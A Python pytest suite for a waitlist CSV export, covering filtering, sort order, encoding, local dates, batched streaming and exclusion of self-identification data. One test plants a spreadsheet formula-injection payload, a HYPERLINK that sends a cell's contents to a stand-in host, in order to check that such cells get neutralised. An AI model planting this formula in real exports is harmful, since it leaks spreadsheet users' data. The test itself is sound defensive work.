"""The CSV export of the filtered waitlist: content, encoding, safety, streaming."""

from __future__ import annotations

import csv
import io

import pytest

from intake.auth.scope import EVERYTHING
from intake.csvfile import neutralise
from intake.waitlist import export
from intake.waitlist.export import COLUMNS, export_query
from intake.waitlist.queries import Filters
from tests.waitlist.conftest import names, table_rows

BOM = b"\xef\xbb\xbf"


def download(client, query=""):
    response = client.get(f"/coord/waitlist/export.csv{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def read(response) -> list[dict[str, str]]:
    body = response.get_data()
    assert body.startswith(BOM)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0] == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def test_the_export_is_the_filtered_list_in_the_same_order(coordinator_client, add, clock, login):
    add(
        "Rosa Álvarez",
        email="rosa@example.org",
        phone="206 555 0100",
        organisation="Example Family Services",
        languages=("en", "es"),
        availability=("weekday_evening", "weekend"),
        access_needs=("captions",),
        access_needs_other="Large print handouts",
        priority=1,
        joined_days_ago=3,
        reference="K7MX-3QRH",
    )
    add("王小明", languages=("cmn", "es"), joined_days_ago=10)
    add(
        "Dana Leader",
        agency_name="Little Sprouts Family Center",
        seats=6,
        languages=("es",),
        status="needs_review",
        joined_days_ago=None,
    )
    add("English only", languages=("en",))
    add("Enrolled", languages=("es",), status="enrolled")
    clock.advance(days=2)
    login(coordinator_client, coordinator_client.user)

    response = download(coordinator_client, "?language=es")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response.headers["Content-Disposition"] == 'attachment; filename="waitlist-2026-03-04.csv"'
    )
    rows = read(response)
    assert [row["Name"] for row in rows] == ["Rosa Álvarez", "王小明", "Dana Leader"]
    assert rows[0] == {
        "Reference": "K7MX-3QRH",
        "Kind": "individual",
        "Name": "Rosa Álvarez",
        "Organisation or agency": "Example Family Services",
        "E-mail": "rosa@example.org",
        "Phone": "206 555 0100",
        "Program": "Introductory reflective practice",
        "Cycle": "",
        "Status": "On the waitlist",
        "Priority": "1",
        "Seats": "1",
        "Languages": "English; Español",
        "Days/times": "Weekday evenings; Weekends",
        "Access needs": "Live captions (CART); Large print handouts",
        "Joined": "2026-02-27",
        "Days waiting": "5",
        "Entered by coordinator": "",
    }
    assert rows[1]["Languages"] == "中文（普通话 Mandarin）; Español"
    agency = rows[2]
    assert agency["Kind"] == "agency"
    assert agency["Organisation or agency"] == "Little Sprouts Family Center"
    assert agency["Seats"] == "6"
    assert agency["Status"] == "Being reviewed"
    assert agency["Joined"] == ""

    # The same rows, in the same order, as the table with the same filters.
    page = coordinator_client.get("/coord/waitlist?language=es").get_data(as_text=True)
    assert [n.split(" Led by")[0] for n in names(page)] == [
        "Rosa Álvarez",
        "王小明",
        "Little Sprouts Family Center",
    ]


def test_the_export_follows_the_sort_and_every_page(coordinator_client, add_many):
    add_many(120)
    rows = read(download(coordinator_client, "?sort=name&dir=desc&page=2"))
    assert [row["Name"] for row in rows] == [f"Person {n:04d}" for n in range(120, 0, -1)]


def test_dates_are_the_programs_local_day(coordinator_client, clock, login, add):
    # 03:00 UTC on 3 March is still 2 March in Seattle.
    clock.current = clock.current.replace(day=3, hour=3)
    add("Late joiner", joined_days_ago=0)
    login(coordinator_client, coordinator_client.user)
    response = download(coordinator_client)
    assert response.headers["Content-Disposition"].endswith('filename="waitlist-2026-03-02.csv"')
    assert read(response)[0]["Joined"] == "2026-03-02"
    page = coordinator_client.get("/coord/waitlist").get_data(as_text=True)
    assert table_rows(page)[0]["joined"] == "Mar 2, 2026"


def test_formula_cells_are_neutralised(coordinator_client, add):
    add(
        '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
        phone="+1 206 555 0100",
        organisation="@SUM(1+1)",
        access_needs_other="-2+3",
        email="evil@example.org",
    )
    add("\tTabbed", organisation="\rReturn", email="tab@example.org")
    rows = read(download(coordinator_client, "?status=all&sort=name"))
    by_email = {row["E-mail"]: row for row in rows}
    evil = by_email["evil@example.org"]
    assert evil["Name"] == '\'=HYPERLINK("https://evil.example/?d="&A2,"Click")'
    assert evil["Phone"] == "'+1 206 555 0100"
    assert evil["Organisation or agency"] == "'@SUM(1+1)"
    assert evil["Access needs"] == "'-2+3"
    assert by_email["tab@example.org"]["Name"] == "'\tTabbed"
    assert by_email["tab@example.org"]["Organisation or agency"] == "'\rReturn"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Rosa = Rose", "Rosa = Rose"),
        ("", ""),
        (3, 3),
        (-2, -2),  # a number we computed is not a formula
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_the_export_query_never_reads_self_identification():
    sql = str(export_query(Filters(q="someone"), scope=EVERYTHING).compile())
    assert "self_identifications" not in sql
    assert "bipoc" not in sql


def test_no_self_identification_in_the_export(coordinator_client, add):
    add("Said yes", bipoc="yes", program="bipoc-intensive", email="yes@example.org")
    body = download(coordinator_client).get_data().decode("utf-8-sig")
    header = body.splitlines()[0].lower()
    assert "bipoc" not in header
    assert "identif" not in header
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == 2
    assert "yes" not in rows[1]  # the answer, as a cell


def test_the_export_is_streamed_in_batches(coordinator_client, add_many, monkeypatch):
    monkeypatch.setattr(export, "BATCH_SIZE", 10)
    add_many(35)
    response = coordinator_client.get("/coord/waitlist/export.csv")
    assert response.is_streamed
    chunks = list(response.response)
    # The header, then one chunk per batch of ten rows.
    assert len(chunks) == 5
    assert [chunk.count(b"\n") for chunk in chunks] == [1, 10, 10, 10, 5]
    assert chunks[0].startswith(BOM)
    response.close()


def test_an_empty_export_still_has_its_header(coordinator_client):
    assert read(download(coordinator_client)) == []
